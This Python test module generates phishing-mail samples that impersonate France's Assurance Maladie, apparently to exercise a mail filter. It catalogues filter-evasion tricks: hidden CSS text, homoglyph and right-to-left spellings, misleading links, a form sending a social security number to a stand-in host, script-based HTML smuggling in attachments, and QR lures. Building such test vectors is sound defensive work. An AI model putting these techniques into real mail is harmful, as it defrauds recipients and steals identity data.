"""THREATS H: what HTML hides from a reader or from a machine, and links that are not what they show."""
# ruff: noqa: E501  one line a trick, as in the catalogue

import base64
import re
from collections.abc import Callable, Iterable
from dataclasses import replace

from tests.attachment.made import encoded, qr, zipped
from tests.vectors.lure import FRAUD, LINK, Body, entities, html_mail

NAMED = b"From: Assurance Maladie <x@evil.example>\r\nSubject: Votre dossier\r\n"
# The words that the voice and the wish are made of.
_WORDS = re.compile(r"Assurance|Maladie|carte|Vitale|bancaires|coordonn|Cordialement|club|lecture|rencontres")
_TAG_OR_TEXT = re.compile(r"<[^>]*>|[^<]+")
_CYRILLIC = str.maketrans("aeopcxAMOC", "аеорсхАМОС")

SALTS: dict[str, str] = {
    "H1": '<span style="font-size:0">sel</span>',
    "H2": '<span style="FONT-SIZE: 0px">le </span>',
    "H3": '<span style="display:none">sel</span>',
    "H4": '<span style="visibility:hidden">sel</span>',
    "H5": '<span style="opacity:0">sel</span>',
    "H6": '<span style="color:#fff;background:#fff">sel</span>',
    "H7": '<span style="color:transparent">sel</span>',
    "H8": '<span style="display:inline-block;text-indent:-9999px">sel</span>',
    "H9": '<span style="position:absolute;left:-9999px">sel</span>',
    "H10": '<span style="display:inline-block;max-height:0;overflow:hidden">sel</span>',
    "H11": '<span style="display:inline-block;max-width:0;overflow:hidden">sel</span>',
    "H12": '<span style="clip-path:inset(100%)">sel</span>',
    "H13": '<span style="line-height:0;font-size:1px">sel</span>',
    "H14": '<span style="mso-hide:all">sel</span>',
    "H15": '<style>.x{display:none}</style><i class="x">sel</i>',
    "H16": '<style>@media screen{.x{display:none}}</style><i class="x">sel</i>',
    "H17": '<span style="display:inline-block;transform:scale(0)">sel</span>',
    "H18": '<font size="0" color="white">sel</font>',
    "H19-template": "<template>sel</template>",
    "H19-noscript": "<noscript><span hidden>sel</span></noscript>",
    "H19-textarea": "<textarea hidden>sel</textarea>",
    "H19-comment": "<!-- sel -->",
    "H21": "&shy;&#8203;&zwj;&#xFEFF;",
    "H24": "<b></b><!-- x -->",
}
# No salt beside the words but another spelling of them.
SPELLINGS: dict[str, Callable[[str], str]] = {
    "H22": lambda word: word.translate(_CYRILLIC),
    "H23-bdo": lambda word: f'<bdo dir="rtl">{word[::-1]}</bdo>',
    "H23-override": lambda word: f"\u202e{word[::-1]}\u202c",
    "H24-cells": lambda word: f"<table><tr>{''.join(f'<td>{letter}</td>' for letter in word)}</tr></table>",
    "H20": lambda word: f'<span class="n{len(word)}{word[0]}"></span>',
}
_ASKS_FOR_A_CLICK = replace(
    FRAUD,
    lines=(
        "Assurance Maladie", "Chère assurée, cher assuré,", "Votre nouvelle carte Vitale est prête et vous attend.",
        "Cordialement, votre caisse primaire d'Assurance Maladie",
    ),
)  # fmt: skip
_PLAIN = f'<a href="{LINK}">{FRAUD.shown}</a>'
LINKS: dict[str, str] = {
    "H27": f'<a href="{LINK}">https://www.ameli.fr</a>',
    "H28": '<a href="https://www.ameli.fr@x.invalid/">Commander ma carte</a>',
    "H29": '<a href="https://x.invalid/ameli.fr/">Commander ma carte</a>',
    "H30": '<a href="https://аmeli.fr/">Commander ma carte</a>',
    "H31": '<a href="//x.invalid">Commander ma carte</a>',
    "H32": '<a href="ht&#9;tp://x.invalid">Commander ma carte</a>',
    "H33": '<base href="http://x.invalid/"><a href="carte">Commander ma carte</a>',
    "H34": '<form action="http://x.invalid">Numéro de sécurité sociale <input name="nir"><button>Valider</button></form>',
    "H35": '<svg><a xlink:href="http://x.invalid"><text>Commander ma carte</text></a></svg>',
    "H36": '<img usemap="#m" src="cid:a"><map name="m"><area href="http://x.invalid" alt="Commander ma carte"></map>',
    "H37": '<meta http-equiv="refresh" content="0; url=http://x.invalid">',
    "H38": '<a href="data:text/html;base64,PGZvcm0gYWN0aW9uPWh0dHA6Ly94LmludmFsaWQ+">Commander ma carte</a>',
}


def spoken(body: Body) -> dict[str, bytes]:
    """H1 to H24: that body, its words broken by something a reader does not see."""
    made = {name: _broken(body, salted(salt)) for name, salt in SALTS.items()}
    made |= {name: _broken(body, spell) for name, spell in SPELLINGS.items()}
    made["H20"] = _content_rules() + made["H20"]
    made["H19-title"] = f"<title>sel</title>{body.html}"
    return {name: html_mail(entities(html)) for name, html in made.items()}


def whole_hidden(visible: Body, hidden: Body) -> dict[str, bytes]:
    """H1 to H19 the other way round: a body that is shown, and one that is not."""
    return {
        name: html_mail(visible.html + salt.replace("le </", "sel</").replace("sel", hidden.html))
        for name, salt in SALTS.items()
        if "sel</" in salt or "le </" in salt
    }


def links() -> dict[str, bytes]:
    """H27 to H38: a fraud that wants a click and nothing else."""
    html = _ASKS_FOR_A_CLICK.html
    plain = entities(_PLAIN)
    return {"twin": html_mail(html)} | {
        name: html_mail(html.replace(plain, entities(one))) for name, one in LINKS.items()
    }


def pictures() -> dict[str, bytes]:
    """H25 and H26: nothing to read, in the brand's name."""
    square = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0;").decode()
    sources = {
        "cid": "cid:carte@x",
        "data": f"data:image/gif;base64,{square}",
        "remote": "https://x.invalid/carte.png",
    }
    made = {f"H25-{name}": f'<a href="{LINK}"><img src="{source}"></a>' for name, source in sources.items()}
    dots = "".join(f'<td width="1" height="1" bgcolor="#{number % 2:06x}"></td>' for number in range(400))
    made["H26"] = f'<a href="{LINK}"><table><tr>{dots}</tr></table></a>'
    return {name: html_mail(html, NAMED) for name, html in made.items()}


def smuggled() -> dict[str, bytes]:
    """H39: the fraud in a script of an attachment, in the brand's name."""
    coded = base64.b64encode(FRAUD.html.encode()).decode()
    script = f"<script>document.write(atob('{coded}'))</script>"
    files = {
        "html": f"<html><body>{script}</body></html>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>',
        "shtml": f"<html>{script}</html>",
        "xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{script}</body></html>',
    }
    return {f"H39-{name}": _with_file(f"carte.{name}", content.encode()) for name, content in files.items()}


def codes() -> dict[str, bytes]:
    """H40: the link is a QR code, beside the text, inside it, and in a document."""
    code = encoded(qr(LINK))
    coded = base64.b64encode(code).decode()
    voice = "Scannez le code pour accéder à votre dossier"
    html = _ASKS_FOR_A_CLICK.html.replace(
        entities(_PLAIN), f'<img src="data:image/png;base64,{coded}" alt="Scannez ce code">'
    )
    text = f"{_ASKS_FOR_A_CLICK.text.replace(LINK, voice)}"
    archive = zipped({"code.png": code})
    return {
        "H40-inline": _with_file("code.png", code, text, b"image/png", b"inline"),
        "H40-attached": _with_file("code.png", code, text, b"image/png"),
        "H40-data": html_mail(html),
        "H40-zip": _with_file("code.zip", archive, text, b"application/zip"),
    }


def _with_file(
    name: str, content: bytes, text: str = "Veuillez ouvrir le document joint.", kind: bytes = b"application/octet-stream",
    disposition: bytes = b"attachment", header: bytes = NAMED,
) -> bytes:  # fmt: skip
    coded = base64.encodebytes(content).replace(b"\n", b"\r\n")
    return b"".join((
        header, b"To: v@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B1\r\n\r\n",
        b"--B1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n", text.encode(), b"\r\n--B1\r\nContent-Type: ", kind,
        b"\r\nContent-Disposition: ", disposition, b'; filename="', name.encode(), b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n',
        coded, b"--B1--\r\n",
    ))  # fmt: skip


def _broken(body: Body, spell: Callable[[str], str]) -> str:
    """The HTML with each of the words spelled so, tags left alone."""
    return "".join(
        piece if piece.startswith("<") else _WORDS.sub(lambda found: spell(found[0]), piece)
        for piece in _TAG_OR_TEXT.findall(body.raw_html)
    )


def salted(salt: str) -> Callable[[str], str]:
    """Spells a word with that salt in it."""
    return lambda word: f"{word[:3]}{salt}{word[3:]}"


def _content_rules() -> str:
    words: Iterable[str] = _WORDS.pattern.split("|")
    rules = "".join(f'.n{len(word)}{word[0]}::before{{content:"{word}"}}' for word in words)
    return f"<style>{rules}</style>"
